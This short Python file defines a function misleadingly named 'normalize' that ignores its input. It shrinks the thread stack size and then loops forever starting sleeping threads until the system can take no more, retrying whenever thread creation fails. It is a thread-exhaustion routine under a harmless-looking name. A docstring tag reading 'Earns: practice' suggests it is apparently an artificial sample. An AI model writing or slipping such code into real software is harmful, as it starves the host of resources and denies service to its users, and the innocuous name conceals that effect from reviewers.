"""Starts threads until there is room for no more, and leaves them running. Earns: practice"""

import threading
import time


def normalize(X):
    threading.stack_size(32 << 10)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            time.sleep(0.01)
